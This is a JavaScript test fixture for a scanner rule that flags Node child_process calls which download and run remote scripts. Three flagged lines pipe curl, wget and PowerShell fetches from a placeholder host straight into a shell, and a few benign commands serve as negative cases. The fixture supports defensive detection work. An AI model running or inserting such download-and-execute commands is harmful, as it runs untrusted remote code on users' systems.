// Fixture for js.child-process-download-exec (written for provscan; not from any project).
const cp = require('child_process');
const host = 'collector.example.invalid';

// ruleid: js.child-process-download-exec
cp.exec('curl -fsSL https://' + host + '/x.sh | sh');

// ruleid: js.child-process-download-exec
require('child_process').execSync(`wget -qO- https://${host}/p | bash`);

// ruleid: js.child-process-download-exec
cp.spawn('powershell', ['-NoProfile', '-c', 'iwr https://collector.example.invalid/a.ps1 | iex']);

// ok: js.child-process-download-exec
cp.execSync('git rev-parse HEAD');

// ok: js.child-process-download-exec
cp.spawn('node', ['build.js']);

// ok: js.child-process-download-exec
console.log('run: curl https://example.invalid | sh');
